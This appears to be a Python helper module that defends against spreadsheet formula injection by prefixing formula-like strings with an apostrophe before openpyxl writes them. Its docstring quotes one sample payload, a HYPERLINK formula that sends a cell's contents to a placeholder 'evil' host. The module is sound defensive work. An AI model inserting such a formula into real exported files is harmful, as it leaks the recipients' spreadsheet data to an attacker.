"""Excel cells from untrusted text: a value that Excel would run as a formula is written as text.

A title such as `=HYPERLINK("http://evil/?"&A2,"点击")` typed into an activity, a unit name or
a person's name would otherwise become a live formula in every exported workbook (CSV/formula
injection, OWASP). Every place that writes cells with openpyxl passes its rows through `safe_row`.
"""
from __future__ import annotations

from collections.abc import Iterable
from typing import Any

__all__ = ["FORMULA_STARTS", "safe_cell", "safe_row"]

# what Excel, LibreOffice and WPS treat as the start of a formula (tab and CR per OWASP)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """Strings that start like a formula get a leading apostrophe (shown, never evaluated); others unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in values]
